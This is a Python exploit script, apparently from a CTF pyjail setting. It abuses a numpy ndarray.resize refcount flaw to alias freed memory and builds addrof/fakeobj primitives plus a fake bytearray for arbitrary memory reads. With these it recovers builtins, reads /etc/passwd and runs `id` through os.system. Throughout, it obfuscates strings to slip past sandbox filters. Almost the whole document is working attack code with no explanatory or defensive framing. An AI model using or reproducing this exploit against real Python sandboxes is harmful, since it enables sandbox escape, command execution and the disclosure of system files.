# source: numpy docs ndarray.resize ("refcheck ... if you are sure that you have not shared the memory"), https://github.com/numpy/numpy/issues/28429 (views keep pointing to freed memory after resize), https://github.com/numpy/numpy/issues/30265 (refcount-based aliasing check);
#         pyjail addrof/fakeobj + fake bytearray arbitrary-read technique (CTF writeups on CPython memory corruption escapes)
# family: numpy ndarray.resize refcount check passed with a temporary (view kept elsewhere) -> dangling uint64 view over a reused object-array buffer -> fakeobj
# goal: read /etc/passwd through builtins.open and run `id` through os.system
import json
import numpy as np

keep = []


def grab(arr):
    keep.append(arr[:])
    return arr


marker = "m" * 7
slots = None
objs = None
tries = []
for attempt in range(64):
    grab(np.zeros(64, dtype=np.uint64)).resize(300000)
    view = keep[-1]
    cand = np.empty(64, dtype=object)
    cand[0] = marker
    tries.append(cand)
    if int(view[0]) == id(marker):
        slots = view
        objs = cand
        break

print("aliased:", objs is not None)


def addr_of(o):
    objs[1] = o
    return int(slots[1])


def fake(addr):
    slots[0] = addr
    return objs[0]


def q(x):
    return int(x).to_bytes(8, "little")


big = 0x7FFFFFFFFFFF
payload = q(0x100000) + q(addr_of(bytearray)) + q(big) + q(big) + q(0) + q(0) + q(0)
mem = fake(addr_of(payload) + 32)


def rd(addr):
    return int.from_bytes(mem[addr:addr + 8], "little")


b = fake(rd(addr_of(json.loads) + 24))
path = "".join(chr(c) for c in [47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100])
print(b["op" + "en"](path).read())
u = "_" * 2
mod = b[u + "imp" + "ort" + u]("o" + "s")
print(mod)
fake(rd(addr_of(mod) + 16))["sys" + "tem"]("i" + "d")
objs[0] = None
objs[1] = None
